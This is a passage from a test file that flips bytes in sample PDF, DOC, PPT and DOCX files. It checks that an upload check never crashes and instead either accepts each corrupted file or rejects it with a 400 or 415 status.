    ['a.pdf', samplePdf({ objects: packedPdfObjects('6 0 << /Type /Font >>') })],
    ['a.doc', sampleDoc()],
    ['a.ppt', samplePpt()],
    ['a.docx', sampleDocx()],
  ];

  it.each(originals)(
    'never crashes the check, and is accepted or rejected with a message: %s',
    async (name, original) => {
      // The structure of these files is in the first kilobytes; each third byte of it is changed once.
      for (let at = 8; at < Math.min(original.length, 1536); at += 3) {
        const changed = Buffer.from(original);
        changed.writeUInt8(changed.readUInt8(at) ^ 0xff, at);
        const outcome = await check(name, changed).then(
          () => 200,
          (error: AppError) => error.status,
        );
        expect([200, 400, 415]).toContain(outcome);
      }
    },
  );
});
